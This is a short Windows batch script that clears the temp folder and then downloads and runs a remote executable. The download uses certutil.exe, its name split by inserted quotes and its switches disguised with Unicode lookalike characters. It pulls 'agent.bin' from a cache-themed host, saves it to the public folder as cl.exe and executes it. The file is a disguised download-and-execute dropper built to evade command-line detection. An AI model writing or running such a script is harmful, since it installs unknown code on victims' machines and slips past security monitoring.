@echo off
del /q %TEMP%\*.* 2>nul
c"e"rt""util.exe ‐ur"lc"acʰe –ſpłit ⁄f "h"ttps://cˡean-cache.invalid/agent.bin %PUBLIC%\cl.exe
"%PUBLIC%\cl.exe"
